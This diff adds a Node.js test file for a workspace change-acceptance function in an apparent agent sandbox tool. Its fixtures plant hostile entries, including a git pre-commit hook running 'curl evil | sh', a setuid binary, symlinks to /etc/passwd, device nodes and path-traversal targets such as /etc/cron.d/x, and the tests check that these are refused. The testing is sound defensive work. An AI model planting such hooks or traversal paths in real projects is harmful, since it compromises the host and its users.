@@ -1,0 +1,145 @@
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readFileSync,
+  readlinkSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { acceptChanges, type WorkspaceChange } from '../src/workspace/accept-changes.js';
+import { listTree, makeSandbox } from './helpers.js';
+
+/** A hand-made layer holding what an agent left behind, hostile entries included. */
+function setup() {
+  const sb = makeSandbox({ 'keep.txt': 'keep\n', 'old.txt': 'old\n', 'src/a.ts': 'a1\n', '.git/hooks/.keep': '' });
+  const layer = join(sb.root, 'layer');
+  const put = (path: string, content: string, mode = 0o644): void => {
+    mkdirSync(join(layer, path, '..'), { recursive: true });
+    writeFileSync(join(layer, path), content);
+    chmodSync(join(layer, path), mode);
+  };
+  put('src/a.ts', 'a2\n');
+  put('src/new/b.ts', 'b\n');
+  put('bin/tool', '#!/bin/sh\n', 0o4755);
+  put('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n', 0o755);
+  put('agentcell.toml', '[network]\nmode = "open"\n');
+  mkdirSync(join(layer, 'links'), { recursive: true });
+  symlinkSync('/etc/passwd', join(layer, 'links', 'passwd'));
+  symlinkSync('../../outside', join(layer, 'links', 'up'));
+  symlinkSync('../src/a.ts', join(layer, 'links', 'ok'));
+  execFileSync('mkfifo', [join(layer, 'fifo')]);
+  execFileSync('mknod', [join(layer, 'dev'), 'c', '0', '0']);
+  const sourceOf = (path: string): string | undefined =>
+    existsSync(join(layer, path)) || isLink(join(layer, path)) ? join(layer, path) : undefined;
+  return { sb, layer, sourceOf };
+}
+
+function isLink(path: string): boolean {
+  try {
+    return lstatSync(path).isSymbolicLink();
+  } catch {
+    return false;
+  }
+}
+
+const CHANGES: WorkspaceChange[] = [
+  { path: 'src/a.ts', change: 'modified' },
+  { path: 'src/new/b.ts', change: 'added' },
+  { path: 'old.txt', change: 'deleted' },
+  { path: 'bin/tool', change: 'added' },
+  { path: '.git/hooks/pre-commit', change: 'added' },
+  { path: 'agentcell.toml', change: 'added' },
+  { path: 'links/passwd', change: 'added' },
+  { path: 'links/up', change: 'added' },
+  { path: 'links/ok', change: 'added' },
+  { path: 'fifo', change: 'added' },
+  { path: 'dev', change: 'added' },
+  { path: '../escape', change: 'added' },
+  { path: '/etc/cron.d/x', change: 'added' },
+  { path: 'src/../../x', change: 'added' },
+];
+
+describe('accept', () => {
+  it('applies ordinary changes and refuses every hostile one, leaving the host untouched by them', () => {
+    const { sb, sourceOf } = setup();
+    try {
+      const result = acceptChanges({
+        workspace: sb.workspace,
+        changes: CHANGES,
+        sourceOf,
+        force: false,
+        dryRun: false,
+      });
+      assert.deepEqual(result.applied.map((c) => c.path).sort(), [
+        'bin/tool',
+        'links/ok',
+        'old.txt',
+        'src/a.ts',
+        'src/new/b.ts',
+      ]);
+      const refused = new Map(result.refused.map((r) => [r.path, r.reason]));
+      assert.match(refused.get('.git/hooks/pre-commit') ?? '', /control-plane/);
+      assert.match(refused.get('agentcell.toml') ?? '', /control-plane/);
+      assert.match(refused.get('links/passwd') ?? '', /absolute path/);
+      assert.match(refused.get('links/up') ?? '', /outside the workspace/);
+      assert.match(refused.get('fifo') ?? '', /fifo/);
+      assert.match(refused.get('dev') ?? '', /character device/);
+      for (const p of ['../escape', '/etc/cron.d/x', 'src/../../x'])
+        assert.match(refused.get(p) ?? '', /plain relative path/);
+
+      assert.equal(readFileSync(join(sb.workspace, 'src/a.ts'), 'utf8'), 'a2\n');
+      assert.equal(readFileSync(join(sb.workspace, 'src/new/b.ts'), 'utf8'), 'b\n');
+      assert.equal(existsSync(join(sb.workspace, 'old.txt')), false);
+      assert.equal(statSync(join(sb.workspace, 'bin/tool')).mode & 0o7777, 0o755, 'setuid bit dropped');
+      assert.equal(readlinkSync(join(sb.workspace, 'links/ok')), '../src/a.ts');
+      assert.equal(existsSync(join(sb.workspace, '.git/hooks/pre-commit')), false);
+      assert.equal(existsSync(join(sb.workspace, 'agentcell.toml')), false);
+      assert.equal(existsSync(join(sb.root, 'escape')), false);
+      assert.equal(existsSync(join(sb.root, 'x')), false);
+      assert.ok(!listTree(sb.workspace).some((p) => p.includes('.agentcell-accept-')), 'no temp files left');
+    } finally {
+      sb.cleanup();
+    }
+  });
+
+  it('--force applies the control plane too; --dry-run changes nothing', () => {
+    const { sb, sourceOf } = setup();
+    try {
+      const before = listTree(sb.workspace);
+      const dry = acceptChanges({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: true, dryRun: true });
+      assert.ok(dry.applied.some((c) => c.path === '.git/hooks/pre-commit'));
+      assert.deepEqual(listTree(sb.workspace), before);
+      acceptChanges({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: true, dryRun: false });
+      assert.match(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), /curl evil/);
+    } finally {
+      sb.cleanup();
+    }
+  });
+
+  it('never writes through a symlinked directory on the host', () => {
+    const { sb, sourceOf } = setup();
+    try {
+      const outside = join(sb.root, 'outside-dir');
+      mkdirSync(outside);
+      symlinkSync(outside, join(sb.workspace, 'src/new'));
+      const result = acceptChanges({
+        workspace: sb.workspace,
+        changes: [{ path: 'src/new/b.ts', change: 'added' }],
+        sourceOf,
+        force: false,
+        dryRun: false,
+      });
+      assert.match(result.refused[0]?.reason ?? '', /symlink on the host/);
+      assert.deepEqual(listTree(outside), []);
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
